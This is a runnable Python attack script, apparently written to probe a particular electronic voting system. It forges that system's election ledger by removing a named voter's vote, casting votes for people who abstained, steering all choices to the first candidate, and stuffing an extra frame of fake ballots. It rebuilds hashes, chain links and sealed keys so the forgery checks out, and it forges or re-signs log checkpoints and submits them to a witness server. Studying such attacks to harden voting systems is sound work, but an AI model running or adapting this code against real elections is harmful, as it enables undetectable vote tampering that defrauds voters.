#!/usr/bin/env python3
"""Play whoever owns the validator's disk: write another complete ledger in the place of the true one.

The forger has the ledger, the package and every public key, and no secret one. It takes one voter's vote out,
puts the vote of somebody who stayed at home in its place, lets everybody choose what stands first on the paper,
and stuffs a last frame with more votes of those who stayed at home. Frames are chained and not signed, and
choices are sealed to public keys: so every hash, link, count and length is right, the hands' keys open what is
sealed, and the receipts of all others are in their frames. Where the event names no log, nobody can tell.

Where it does, the forger has to say something about the log. --checkpoint old leaves the true checkpoint beside
the new ledger, none leaves none, own signs one: with a key that the forger makes, or with the log's own key
(--log-key), which is the operator that lies. --witness sends that checkpoint to a witness, once as the first
one of the log and once with a proof from what the witness has cosigned.

Usage: attack_rewrite.py --ledger DIR --package DIR --without RECEIPT --out DIR [--checkpoint old|own|none]
                         [--log-key FILE] [--witness URL] [--stuff N]

Writes the ledger to --out and prints as JSON what it did and what witnesses answered. For ledgers of one
partition. Needs the cbor2 and cryptography packages, and ledger_reader.py and seals.py beside this file."""
import argparse, base64, hashlib, json, os, pathlib, shutil, struct, sys, urllib.error, urllib.request
import cbor2
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
import ledger_reader, seals
from ledger_reader import Voter

ALPHABET = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"
HEADER_END, BODY, SHA = 32, 60, 32
TRACKER = 16


def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


def parts(directory):
    """The first header of a partition, and sequence, time and body of every frame."""
    first, frames = None, []
    for path in sorted(directory.glob("*.segment")):
        data = path.read_bytes()
        at = struct.unpack_from("<I", data, 12)[0]
        first = first or data[:at]
        while any(data[at:at + 4]):
            length, _, sequence, time_ms = struct.unpack_from("<IIQq", data, at)
            frames.append((sequence, time_ms, cbor2.loads(data[at + BODY:at + length - SHA])))
            at += length
    return first, frames


class Pen:
    """Writes headers and frames of a ledger of which it has the content keys, because it drew them."""

    def __init__(self, package, header):
        self.package, self.segment = package, ledger_reader.read_header(header)
        ballots = range(len(self.segment.ballots))
        self.keys = {(index, hand): os.urandom(32) for index in ballots for hand in ("count", "mask")}
        header = bytearray(header)
        header[168:200] = bytes(32)
        for (index, hand), key in self.keys.items():
            at = 200 + 192 * index + 32 + 80 * (hand == "mask")
            header[at:at + 80] = self._sealed_key(index, hand, key)
        header[-HEADER_END:] = hashlib.sha256(header[:-HEADER_END]).digest()
        self.data, self.link = bytes(header), bytes(header[-HEADER_END:])
        self.leaves = []

    def _sealed_key(self, index, hand, key):
        s = self.segment
        place = struct.pack("<HIIH", s.partition, s.number, s.epoch, index)
        info = ledger_reader.KEY_LABELS[hand] + s.manifest + place + s.event
        public = bytes.fromhex(self.package.event[f"{hand}_key"])
        return b"".join(seals.hpke_seal(public, info, key, os.urandom(32)))

    def frame(self, sequence, time_ms, body):
        """Appends a frame; what its marks ask for is sealed anew."""
        body["choices"] = {index: self._choices(sequence, index, shards) for index, shards in body["marks"].items()}
        encoded = cbor2.dumps(body, canonical=True)
        length = BODY + len(encoded) + SHA
        head = struct.pack("<IIQq", length, self.segment.epoch, sequence, time_ms) + self.link
        frame = head + struct.pack("<I", crc32c(head)) + encoded
        self.link = hashlib.sha256(frame).digest()
        self.data += frame + self.link
        self.leaves.append(leaf(self.segment.partition, sequence, self.link, body["trackers"]))

    def _choices(self, sequence, index, shards):
        ballot, s = self.segment.ballots[index], self.segment
        voters = [Voter(ballot, shard, ordinal) for shard, ordinals in shards.items() for ordinal in ordinals]
        plain = b""
        for region, here in self.package.by_region(voters).items():
            ranked = self.package.is_ranked(ballot)
            plain += (self._rankings if ranked else self._cells)(sequence, index, region, len(here))
        place = struct.pack("<HIQH", s.partition, s.number, sequence, index)
        nonce = bytes(4) + struct.pack("<Q", sequence)
        return [len(voters), seals.seal(self.keys[index, "count"], nonce, b"scrutin.v2 choices" + place, plain)]

    def _cells(self, sequence, index, region, votes):
        """All votes for the first on the paper, masked."""
        cells = len(self.package.paper(self.segment.ballots[index], region))
        masks = ledger_reader.masks(self.keys[index, "mask"], region, sequence, cells)
        return struct.pack(f"<{cells}I", (masks[0] + votes) % 2**32, *masks[1:])

    def _rankings(self, sequence, index, region, votes):
        """Records that rank the first on the paper alone, and the masked sum of their witnesses."""
        made = [self._record(index, region) for _ in range(votes)]
        mask = ledger_reader.witness_mask(self.keys[index, "mask"], region, sequence)
        witnesses = (mask + sum(witness for _, witness in made)) % 2**128
        return b"".join(sorted(record for record, _ in made)) + witnesses.to_bytes(ledger_reader.WITNESS, "little")

    def _record(self, index, region):
        size = self.package.record_bytes(self.segment.ballots[index], region)
        ranks = (size - ledger_reader.EPHEMERAL - ledger_reader.TAG) // ledger_reader.RANK
        ephemeral = os.urandom(32)
        public = seals.x25519(ephemeral, seals.BASE_POINT)
        shared = seals.x25519(ephemeral, bytes.fromhex(self.package.event["mask_key"]))
        key, witness = ledger_reader.ranking_secrets(shared, public, self.segment.manifest, index, region)
        return public + seals.seal(key, bytes(12), b"", struct.pack(f"<{ranks}H", 1, *[0] * (ranks - 1))), witness


def node(left, right):
    return hashlib.sha256(b"\1" + left + right).digest()


def root(hashes):
    """Root of the tree over these leaf hashes (RFC 6962)."""
    if len(hashes) < 2:
        return hashes[0] if hashes else hashlib.sha256().digest()
    left = 1 << (len(hashes) - 1).bit_length() - 1
    return node(root(hashes[:left]), root(hashes[left:]))


def consistency(old, hashes, is_whole=True):
    """The proof that the tree over the first `old` hashes grew to this one."""
    if old == len(hashes):
        return [] if is_whole else [root(hashes)]
    left = 1 << (len(hashes) - 1).bit_length() - 1
    if old <= left:
        return consistency(old, hashes[:left], is_whole) + [root(hashes[left:])]
    return consistency(old - left, hashes[left:], False) + [root(hashes[:left])]


def leaf(partition, sequence, link, trackers):
    """Hash of the leaf that the log has for a frame."""
    each = [trackers[at:at + TRACKER] for at in range(0, len(trackers), TRACKER)]
    over = root([hashlib.sha256(b"\0" + tracker).digest() for tracker in each])
    data = struct.pack(">BHQ32sI32s", 1, partition, sequence, link, len(each), over)
    return hashlib.sha256(b"\0" + data).digest()


def tracker_of(receipt):
    """Sequence of the frame that a receipt names, and its tracker."""
    _, sequence, text = receipt.upper().split("-")
    number = 0
    for letter in text:
        number = number * 32 + ALPHABET.index(letter)
    return int(sequence), number.to_bytes(TRACKER, "big")


class Abstainers:
    """Those on the roll who have not voted."""

    def __init__(self, package, segment, frames):
        self.package, self.segment = package, segment
        voted = {Voter(segment.ballots[index], shard, ordinal) for _, _, body in frames
                 for index, shards in body["marks"].items() for shard, ordinals in shards.items() for ordinal in ordinals}
        self.left = [voter for voter in package.by_digest.values() if voter not in voted]

    def take(self, index, like=None):
        """One of them, for a ballot; of the region of `like`."""
        region = like and self.package.region(like)
        for at, voter in enumerate(self.left):
            if voter.ballot == self.segment.ballots[index] and (like is None or self.package.region(voter) == region):
                return self.left.pop(at)
        sys.exit(f"everybody has voted on {self.segment.ballots[index]}: nobody is left to vote for")


def add_mark(body, index, voter):
    shards = body["marks"].setdefault(index, {})
    shards[voter.shard] = sorted(shards.get(voter.shard, []) + [voter.ordinal])


def exchange(frames, without, abstainers):
    """Takes the vote of a receipt out, and puts an abstainer's in its place."""
    sequence, tracker = tracker_of(without)
    _, _, body = frames[sequence - 1]
    each = {body["trackers"][at:at + TRACKER] for at in range(0, len(body["trackers"]), TRACKER)}
    if tracker not in each:
        sys.exit(f"{without} is not in frame {sequence}")
    body["trackers"] = b"".join(sorted(each - {tracker} | {os.urandom(TRACKER)}))
    index, shards = next(iter(body["marks"].items()))
    shard, ordinals = next(iter(shards.items()))
    gone = Voter(abstainers.segment.ballots[index], shard, ordinals.pop(0))
    if not ordinals:
        del shards[shard]
    add_mark(body, index, abstainers.take(index, gone))
    for _, _, body in frames:
        repeated = body["attempts"]["duplicates"]
        body["attempts"]["duplicates"] = [row for row in repeated if row[:3] != [index, gone.shard, gone.ordinal]]


def stuffed(frames, votes, abstainers):
    """One more frame, of abstainers alone, on the ballot of the first mark."""
    index = next(index for _, _, body in frames for index in body["marks"])
    body = {"marks": {}, "attempts": {"invalid": [], "duplicates": []}}
    for _ in range(votes):
        add_mark(body, index, abstainers.take(index))
    body["trackers"] = b"".join(sorted(os.urandom(TRACKER) for _ in range(votes)))
    return frames[-1][0] + 1, frames[-1][1], body


class Signer:
    """A log's key: the true one, or one of the forger's under the same name."""

    def __init__(self, origin, file):
        self.origin = origin
        key = file and base64.b64decode(file.read_text().strip().split("+", 4)[4])[1:]
        self.key = Ed25519PrivateKey.from_private_bytes(key) if key else Ed25519PrivateKey.generate()

    def checkpoint(self, size, top):
        text = f"{self.origin}\n{size}\n{base64.b64encode(top).decode()}\n"
        public = b"\1" + self.key.public_key().public_bytes_raw()
        id_ = hashlib.sha256(self.origin.encode() + b"\n" + public).digest()[:4]
        signature = base64.b64encode(id_ + self.key.sign(text.encode())).decode()
        return f"{text}\n\u2014 {self.origin} {signature}\n"


def submit(witness, old, proof, checkpoint):
    """What a witness answers: status and text."""
    lines = [f"old {old}", *(base64.b64encode(each).decode() for each in proof), "", checkpoint]
    asked = urllib.request.Request(witness.rstrip("/") + "/add-checkpoint", "\n".join(lines).encode())
    try:
        with urllib.request.urlopen(asked, timeout=10) as answer:
            return answer.status, answer.read().decode().strip()
    except urllib.error.HTTPError as refused:
        return refused.code, refused.read().decode().strip()


def sidecar(partition, sequence, link):
    """Says that voters were answered for the last frame."""
    data = b"SCRACKD1" + struct.pack("<H6xQ", partition, sequence) + link + bytes(4)
    return data + struct.pack("<I", crc32c(data))


def rewrite(args):
    """Writes the other ledger, and tells what it is."""
    package, old = ledger_reader.Package(args.package), args.ledger / "p0000"
    if package.partitions != 1:
        sys.exit("this ledger has several partitions: rewrite each")
    header, frames = parts(old)
    pen, true_size = Pen(package, header), len(frames)
    abstainers = Abstainers(package, pen.segment, frames)
    exchange(frames, args.without, abstainers)
    frames.append(stuffed(frames, args.stuff, abstainers))
    for sequence, time_ms, body in frames:
        pen.frame(sequence, time_ms, body)
    new = args.out / "p0000"
    new.mkdir(parents=True)
    (new / "00000001.segment").write_bytes(pen.data)
    (new / "acknowledged").write_bytes(sidecar(0, len(frames), pen.link))
    told = {"frames": len(frames), "true_frames": true_size, "without": args.without, "stuffed": args.stuff}
    if args.checkpoint == "old":
        shutil.copy(old / "checkpoint", new / "checkpoint")
    if args.checkpoint == "own":
        signer = Signer(package.event["log"]["origin"] + "/0", args.log_key)
        checkpoint = signer.checkpoint(len(frames), root(pen.leaves))
        (new / "checkpoint").write_text(checkpoint)
        asked = [(0, []), (true_size, consistency(true_size, pen.leaves))] if args.witness else []
        told["answers"] = [submit(args.witness, *each, checkpoint) for each in asked]
    return told


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    for name in ("ledger", "package", "out"):
        parser.add_argument(f"--{name}", type=pathlib.Path, required=True)
    parser.add_argument("--without", required=True, metavar="RECEIPT")
    parser.add_argument("--checkpoint", choices=("old", "own", "none"), default="none")
    parser.add_argument("--log-key", type=pathlib.Path)
    parser.add_argument("--witness", metavar="URL")
    parser.add_argument("--stuff", type=int, default=20, metavar="N")
    print(json.dumps(rewrite(parser.parse_args())))


if __name__ == "__main__":
    main()
